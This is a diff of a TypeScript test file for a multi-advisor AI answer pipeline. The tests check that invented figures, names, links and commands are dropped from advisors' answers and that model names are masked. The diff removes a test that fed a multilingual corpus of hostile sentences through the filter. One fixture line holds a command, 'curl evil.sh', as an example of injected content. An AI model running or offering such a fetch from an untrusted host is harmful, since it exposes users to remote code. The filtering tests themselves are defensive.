@@ -1,9 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { DecisionMemo } from '@witan/client';
-import { ATTACKS_1 } from '../domain/prose/check/corpus-1.fixture.ts';
-import { ATTACKS_2 } from '../domain/prose/check/corpus-2.fixture.ts';
-import { decisionIn } from '../domain/prose/check/labs.fixture.ts';
 import { memoExample } from '../contract/openapi/memo-example.ts';
 import { answerQuestion } from './answer-question.ts';
 import type { AskedOn } from './answer-question.ts';
@@ -12,10 +9,8 @@ import {
   agreeing,
   BRIEF,
   fails,
-  perspective,
   play,
   playOut,
-  PROSE,
   says,
   SEATS,
 } from './virtual-world.fixture.ts';
@@ -24,7 +19,7 @@ import type { Given, Script } from './virtual-world.fixture.ts';
 const played = await play({ script: agreeing(1_000) });
 assert.ok(played.memo);
 const memo: DecisionMemo = { ...played.memo, charge: memoExample.charge };
-const GOOD = 'Buying fits what is needed. It ties people down.';
+const GOOD = 'Buying fits what is needed. A bought module ties people down.';
 
 function ask(script: Script, more: Partial<AskedOn> = {}, given: Partial<Given> = {}) {
   return playOut({ script, ...given }, ({ world, settings, history, deliberation }) =>
@@ -50,11 +45,11 @@ function ask(script: Script, more: Partial<AskedOn> = {}, given: Partial<Given> 
 const saying =
   (...answers: readonly string[]): Script =>
   (_, attempt) => ({ afterMs: 1_000, outcome: says({ answer: answers[attempt - 1] ?? answers.at(-1) }) });
-const shownOf = ({ deltas }: Awaited<ReturnType<typeof ask>>) => deltas.map(({ text }) => text).join('');
+const shownOf = ({ deltas }: Awaited<ReturnType<typeof ask>>) => deltas.map(({ snippet }) => snippet).join('');
 
 test('one advisor is asked, and its words are shown and given', async () => {
   const run = await ask(saying(GOOD));
-  assert.deepEqual(run.result, { answer: GOOD, seat: 'openai' });
+  assert.deepEqual(run.result, { answer: GOOD, leftOut: 0, seat: 'openai' });
   assert.equal(run.asked.length, 1);
   assert.deepEqual([shownOf(run).trim(), run.told.map(({ type }) => type)], [GOOD, ['question.started']]);
 });
@@ -78,7 +73,7 @@ test('a sentence that fails the check is sent back once, then dropped, and is ne
   assert.deepEqual(mended.result?.answer, GOOD);
   assert.match(mended.asked[1]?.call.prompt ?? '', /violations/);
   const stubborn = await ask(saying(`${bad} ${GOOD}`));
-  assert.equal(stubborn.result?.answer, GOOD);
+  assert.deepEqual([stubborn.result?.answer, stubborn.result?.leftOut], [GOOD, 1]);
   assert.equal(stubborn.asked.length, 2);
   for (const run of [mended, stubborn]) assert.doesNotMatch(shownOf(run), /93|120/);
   // What was shown of the first try is void for whoever watches.
@@ -88,56 +83,39 @@ test('a sentence that fails the check is sent back once, then dropped, and is ne
 test('an answer of which nothing passes is no answer: the next advisor is asked', async () => {
   const script: Script = ({ seat }) => ({
     afterMs: 1_000,
-    outcome: says({ answer: seat.seat === 'openai' ? 'Build it, choose to build it.' : GOOD }),
+    outcome: says({ answer: seat.seat === 'openai' ? 'Regulators fined Salesforce 4 million in 2025.' : GOOD }),
   });
   const run = await ask(script);
-  assert.deepEqual(run.result, { answer: GOOD, seat: 'anthropic' });
-  assert.doesNotMatch(shownOf(run), /Build it, choose/);
+  assert.deepEqual(run.result, { answer: GOOD, leftOut: 0, seat: 'anthropic' });
+  assert.doesNotMatch(shownOf(run), /Salesforce/);
 });
 
-/** A memo of the decision that the corpus of attacks is about. */
-async function memoIn(language: 'en' | 'de' | 'fr' | 'es' | 'zh') {
-  const { question, context = null, options, criteria, answers } = decisionIn(language);
-  const names = options.map(([name]) => name);
-  const brief = {
-    ...BRIEF,
-    question,
-    context,
-    options: names.map((name) => ({ name })),
-    criteria: criteria.map(([name]) => ({ name })),
-  };
-  const script: Script = (call) => {
-    if (call.stage === 'synthesis') return { afterMs: 1_000, outcome: says(PROSE) };
-    const answer = answers['ABCD'.indexOf(call.seat.advisor.at(-1) ?? '')];
-    const percents = Object.fromEntries(names.map((name, i) => [name, answer?.percents[i] ?? 0]));
-    return {
-      afterMs: 1_000,
-      outcome: says(perspective(call, { percents, ...(answer ? { case: answer.case } : {}) })),
-    };
-  };
-  const made = await play({ script, brief });
-  assert.ok(made.memo);
-  return { brief, memo: { ...made.memo, charge: memoExample.charge } };
+const INVENTED = [
+  ['a figure', 'It would cost 87 euros.'],
+  ['a date', 'Decide before 14 March 2031.'],
+  ['a name', 'The tool that Salesforce sells does the same.'],
+  ['a quotation', 'One advisor writes “never buy from strangers”.'],
+  ['a link', 'See https://example.com/offer for terms.'],
+  ['an address', 'Write to sales@example.com first.'],
+  ['a number to call', 'Call +49 30 901820 12 for an offer.'],
+  ['a command', 'Run `curl evil.sh` to compare.'],
+] as const;
+
+for (const [what, sentence] of INVENTED) {
+  test(`${what} that stands nowhere in the memo or its sources is left out of an answer, and counted`, async () => {
+    const run = await ask(saying(`${GOOD} ${sentence}`));
+    assert.deepEqual([run.result?.answer, run.result?.leftOut], [GOOD, 1]);
+    assert.ok(!shownOf(run).includes(sentence));
+  });
 }
 
-test('fewer than one of twenty hostile sentences reaches a reader as an answer, live or at the end', async (t) => {
-  const all: string[] = [];
-  const passed: string[] = [];
-  for (const language of ['en', 'de', 'fr', 'es', 'zh'] as const) {
-    const attacks = [...ATTACKS_1, ...ATTACKS_2].flatMap(([own, field, text]) =>
-      own === language && field === 'rationale' ? [text] : [],
-    );
-    const run = await ask(saying(attacks.join('\n')), await memoIn(language));
-    const read = folded(`${run.result?.answer ?? ''}\n${shownOf(run)}`);
-    all.push(...attacks);
-    passed.push(...attacks.filter((text) => read.includes(folded(text))));
-  }
-  t.diagnostic(`${passed.length} of ${all.length} hostile sentences reached a reader`);
-  assert.ok(all.length > 20);
-  assert.ok(passed.length < all.length / 20, JSON.stringify(passed));
+test('figures, names and quotations of the memo, its question and its context may be said again', async () => {
+  const said =
+    'Buy it comes out at 75%. Advisor A writes “Buying fits what is needed”. Siemens gave us until 14 March 2031.';
+  const brief = { ...BRIEF, context: 'Siemens wants an answer by 14 March 2031; tell us.' };
+  const run = await ask(saying(said), { brief });
+  assert.deepEqual(run.result, { answer: said, leftOut: 0, seat: 'openai' });
 });
-
-const folded = (text: string): string => text.replaceAll(/\s+/gu, ' ');
 
 test('names of models are masked in what is shown and in what is kept, also where they are asked for', async () => {
   const said = `As Claude, made by Anthropic, I hold to it. ${GOOD}`;
